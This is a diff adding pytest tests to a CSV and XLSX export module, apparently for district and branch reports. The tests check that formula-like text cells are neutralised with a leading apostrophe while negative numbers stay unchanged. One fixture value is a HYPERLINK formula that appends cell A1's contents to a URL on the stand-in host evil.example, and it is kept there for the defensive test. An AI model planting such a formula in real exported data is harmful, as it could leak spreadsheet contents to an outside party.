@@ -6,6 +6,7 @@ import csv
 import io
 import uuid
 from datetime import date, datetime
+from decimal import Decimal
 from typing import Any
 
 from openpyxl import load_workbook  # type: ignore[import-untyped]
@@ -126,3 +127,54 @@ def test_rows_by_district_are_labelled_with_the_districts_polish_names() -> None
     assert views.row_label(state, "district", "bialoleka") == "Białołęka"
     assert views.row_label(state, "district", "poza-warszawa") == "poza-warszawa"
     assert views.row_label(state, "branch", "wola-7") == "wola-7"
+
+
+# Text a spreadsheet would run as a formula, as a branch or district name could carry it.
+FORMULAS = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"kliknij")',
+    "plus": "+48 601 234 567",
+    "minus": "-2+3",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage_return": "\r=1+1",
+}
+
+
+def formula_rows() -> list[dict[str, Any]]:
+    return [
+        {"name": name, "label": text, "count": -3, "hours": Decimal("-1.5"), "plain": "Wola"}
+        for name, text in FORMULAS.items()
+    ]
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_evaluate() -> None:
+    body = exports.to_csv(formula_rows())
+
+    table = read_csv(body)
+
+    assert {row["name"]: row["label"] for row in table} == {
+        name: "'" + text for name, text in FORMULAS.items()
+    }
+    # Numbers are not text: a negative count or amount is left as it is.
+    assert {row["count"] for row in table} == {"-3"}
+    assert {row["hours"] for row in table} == {"-1.5"}
+    assert {row["plain"] for row in table} == {"Wola"}
+
+
+def test_csv_ends_each_record_with_crlf() -> None:
+    body = exports.to_csv([{"a": "x", "b": 1}, {"a": "y", "b": 2}]).decode("utf-8-sig")
+
+    assert body == "a,b\r\nx,1\r\ny,2\r\n"
+
+
+def test_xlsx_neutralises_cells_a_spreadsheet_would_evaluate() -> None:
+    sheet = load_workbook(io.BytesIO(exports.to_xlsx(formula_rows(), "breakdown"))).active
+    header, *values = list(sheet.values)
+    labels = {row[header.index("name")]: row[header.index("label")] for row in values}
+
+    # XML reads a carriage return back as a line feed.
+    assert labels == {name: "'" + text.replace("\r", "\n") for name, text in FORMULAS.items()}
+    # Stored as text (openpyxl would have stored "=..." as a formula, data_type "f").
+    assert {cell.data_type for cell in sheet["B"][1:]} == {"s"}
+    assert {row[header.index("count")] for row in values} == {-3}
+    assert {row[header.index("hours")] for row in values} == {-1.5}
